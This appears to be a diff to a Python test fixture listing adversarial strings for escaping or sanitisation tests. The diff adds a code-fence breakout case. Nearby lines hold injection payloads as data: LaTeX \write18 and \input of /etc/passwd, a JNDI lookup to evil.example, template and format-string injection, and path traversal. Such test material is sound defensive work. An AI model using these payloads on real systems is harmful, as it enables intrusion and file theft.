@@ -28,6 +28,7 @@ STRINGS = (
     f"\\input{{/etc/passwd}}{MARK}\\write18{{id}}",
     f"%{MARK} $x^2_1$ ~#&{{}} ^^M",
     f"{MARK}|`tick`|**bold**|_it_|~~no~~",
+    f"{MARK}\n```\n# out of the fence\n~~~\n```{MARK}",
     f"[red]{MARK}[/red] [/] [link=file:///etc/passwd]x[/link] :smile:",
     f"{{{{7*7}}}} ${{jndi:ldap://evil.example}} {{% {MARK} %}} %s %n {{0}}",
     f"../../{MARK}",
